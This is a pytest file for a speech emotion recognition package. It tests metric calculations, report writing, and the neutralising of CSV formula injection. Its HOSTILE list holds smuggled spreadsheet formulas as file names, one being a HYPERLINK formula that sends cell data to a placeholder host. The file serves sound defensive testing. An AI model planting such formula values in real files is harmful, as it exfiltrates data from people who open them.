import json

import numpy as np
import pandas as pd
import pytest

from ser import EMOTIONS
from ser.results.evaluate import report_from_predictions, write_report


def test_report_numbers_by_hand():
    y_true = ["happy", "happy", "sad", "sad", "angry", "angry"]
    y_pred = ["happy", "sad", "sad", "sad", "angry", "happy"]
    r = report_from_predictions(y_true, y_pred, emotions=EMOTIONS)
    assert r["accuracy"] == pytest.approx(4 / 6)
    happy = r["per_class"]["happy"]
    assert happy["precision"] == pytest.approx(0.5) and happy["recall"] == pytest.approx(0.5)
    assert happy["support"] == 2
    assert happy["accuracy"] == pytest.approx(4 / 6)  # TP 1, TN 3 of 6
    assert r["per_class"]["sad"]["f1"] == pytest.approx(0.8)
    # macro F1 over the emotions present: happy 0.5, sad 0.8, angry 2/3
    assert r["macro_f1"] == pytest.approx((0.5 + 0.8 + 2 / 3) / 3)
    cm = np.array(r["confusion"]["matrix"])
    assert cm.sum() == 6 and cm[EMOTIONS.index("sad"), EMOTIONS.index("sad")] == 2


def test_uar_and_macro_f1_average_over_the_emotions_present():
    # a corpus without calm (and five other emotions): they must not count as zeros
    y_true = ["happy", "happy", "happy", "happy", "sad", "sad"]
    y_pred = ["happy", "happy", "happy", "calm", "sad", "happy"]
    r = report_from_predictions(y_true, y_pred, emotions=EMOTIONS)
    assert r["uar"] == pytest.approx((3 / 4 + 1 / 2) / 2)
    assert r["macro_f1"] == pytest.approx((f1(3 / 4, 3 / 4) + f1(1.0, 1 / 2)) / 2)
    assert r["emotions_present"] == ["happy", "sad"]
    assert r["emotions_absent"] == ["neutral", "calm", "angry", "fearful", "disgust", "surprised"]


def f1(precision: float, recall: float) -> float:
    return 2 * precision * recall / (precision + recall)


def test_write_report_files(tmp_path):
    probs = np.eye(8, dtype=np.float32)[[0, 1, 2]]
    r = write_report(tmp_path, paths=["a.wav", "b.wav", "c.wav"], y_true=["neutral", "calm", "sad"],
                     probs=probs, emotions=EMOTIONS, n_skipped=2)
    assert json.loads((tmp_path / "report.json").read_text()) == r
    assert r["n_skipped"] == 2 and r["n_clips"] == 3
    preds = pd.read_csv(tmp_path / "predictions.csv")
    assert list(preds.columns) == ["path", "true", "predicted", *EMOTIONS]
    assert list(preds.predicted) == ["neutral", "calm", "happy"]


HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"a\").wav", "+1.wav", "-2.wav", "@SUM(A1).wav", "\tx.wav", "'quoted.wav",
           "plain.wav"]


def test_predictions_and_split_csv_neutralise_formula_cells_and_read_back(tmp_path):
    # issue 22 item 12: a file name like =HYPERLINK(...) was written raw and ran in a spreadsheet
    import csv

    from ser.results.evaluate import read_results

    probs = np.eye(len(EMOTIONS))[[i % len(EMOTIONS) for i in range(len(HOSTILE))]]
    write_report(tmp_path, paths=HOSTILE, y_true=[EMOTIONS[i % 8] for i in range(len(HOSTILE))], probs=probs,
                 emotions=EMOTIONS)
    with open(tmp_path / "predictions.csv", newline="") as f:
        cells = [row[0] for row in csv.reader(f)][1:]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert cells[0].startswith("'=HYPERLINK") and cells[-1] == "plain.wav"
    assert list(read_results(tmp_path)["predictions"]["path"]) == HOSTILE  # our own file reads back as it was


def test_every_csv_ser_writes_goes_through_the_one_neutralising_helper():
    # issue 22 item 12: predictions.csv, split.csv, history.csv and the labels were each written by to_csv
    import re
    from pathlib import Path

    import ser

    root = Path(ser.__file__).parent
    raw = [f"{p.name}:{n}" for p in sorted(root.rglob("*.py")) if p.name != "csvsafe.py"
           for n, line in enumerate(p.read_text().splitlines(), 1)
           if re.search(r"\.to_csv\(|DictWriter\(", line)
           or ("writerow(" in line and "neutralise_cell" not in line and "_HEADER" not in line)]
    assert raw == []
